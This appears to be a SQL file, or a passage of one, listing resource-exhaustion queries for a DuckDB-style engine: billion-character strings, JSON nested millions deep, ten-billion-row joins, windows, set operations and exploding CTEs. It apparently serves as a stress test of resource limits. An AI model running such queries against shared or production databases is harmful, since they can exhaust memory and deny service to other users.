SELECT jaccard(repeat('ab', 1000000000), repeat('ba', 1000000000))

-- A text hashed, over and over.
SELECT max(sha256(repeat(i::VARCHAR, 100000))) FROM range(100000000) t(i)

-- A text without accents.
SELECT length(strip_accents(repeat('é', 1000000000)))

-- A number of many digits, multiplied.
SELECT length((repeat('9', 1000000)::BIGNUM + repeat('9', 1000000)::BIGNUM)::VARCHAR)

-- JSON that is nested too deeply.
SELECT json_structure(repeat('[', 10000000) || repeat(']', 10000000))

-- JSON that is nested too deeply, read by a path.
SELECT json_extract(repeat('{"a":', 5000000) || '1' || repeat('}', 5000000), '$..a')

-- JSON that is nested too deeply, made a type.
SELECT from_json(repeat('[', 500000000) || repeat(']', 500000000), '["JSON"]')

-- JSON of many keys.
SELECT json_keys('{' || string_agg('"' || i || '":1', ',') || '}') FROM range(100000000) t(i)

-- JSON walked through.
SELECT count(*) FROM json_tree((SELECT to_json(range(100000000))))

-- A window without a frame's end.
SELECT sum(i) OVER (ORDER BY hash(i)) FROM range(10000000000) t(i)

-- A list in every frame of a window.
SELECT max(len(l)) FROM (SELECT list(i) OVER (ORDER BY i ROWS UNBOUNDED PRECEDING) AS l FROM range(10000000) t(i))

-- Distinct values in every frame.
SELECT max(c) FROM (SELECT count(DISTINCT i % 99991) OVER (ORDER BY i ROWS 1000000 PRECEDING) AS c FROM range(100000000) t(i))

-- Ranks of everything.
SELECT max(r) FROM (SELECT rank() OVER (ORDER BY hash(i)) AS r FROM range(10000000000) t(i))

-- Groups of everything.
SELECT count(*) FROM (SELECT i, count(*) FROM range(10000000000) t(i) GROUP BY i)

-- Groups of every set of columns.
SELECT count(*) FROM (SELECT count(*) FROM range(100000) t(i) GROUP BY CUBE (i % 2, i % 3, i % 5, i % 7, i % 11, i % 13, i % 17, i % 19, i % 23, i % 29, i % 31, i % 37))

-- Two sets without one another.
SELECT count(*) FROM (SELECT i FROM range(10000000000) t(i) EXCEPT SELECT i * 2 FROM range(10000000000) t(i))

-- Two sets in common.
SELECT count(*) FROM (SELECT i FROM range(10000000000) t(i) INTERSECT SELECT i * 2 FROM range(10000000000) t(i))

-- Two sets joined by hash.
SELECT count(*) FROM range(10000000000) a JOIN range(10000000000) b ON hash(a.range) = hash(b.range)

-- Two sets joined by time.
SELECT count(*) FROM range(10000000000) a ASOF JOIN range(10000000000) b ON a.range >= b.range

-- A set in a set.
SELECT count(*) FROM range(10000000000) a WHERE a.range IN (SELECT range * 2 FROM range(10000000000))

-- A random order of everything.
SELECT i FROM range(10000000000) t(i) ORDER BY random()

-- A sample of everything.
SELECT count(*) FROM (SELECT i FROM range(100000000000000) t(i) USING SAMPLE 900000 ROWS)

-- Columns of a wide turn.
SELECT * FROM (PIVOT (SELECT i, i % 90000 AS k FROM range(100000000) t(i)) ON k IN (1, 2, 3) USING list(i))

-- Rows of a turn back.
SELECT count(*) FROM (UNPIVOT (SELECT i AS a, i AS b, i AS c FROM range(10000000000) t(i)) ON a, b, c)

-- Rows out of a list, for each row.
SELECT count(*) FROM (SELECT unnest(range(1000000)) FROM range(10000000))

-- Rows that double, sixty times.
WITH a AS (SELECT * FROM range(1024)), b AS (FROM a, a x), c AS (SELECT 1 FROM b, b x), d AS (SELECT 1 FROM c, c x) SELECT count(*) FROM d, d x WHERE random() > 2

-- A result of many small rows that are large together.
SELECT repeat('x', 400000) || i FROM range(100000) t(i)

-- A result of one large list.
SELECT range(300000000)

-- A result of many columns.
SELECT * FROM (SELECT repeat('x', 40000000) AS a, repeat('y', 40000000) AS b, repeat('z', 40000000) AS c), range(3)
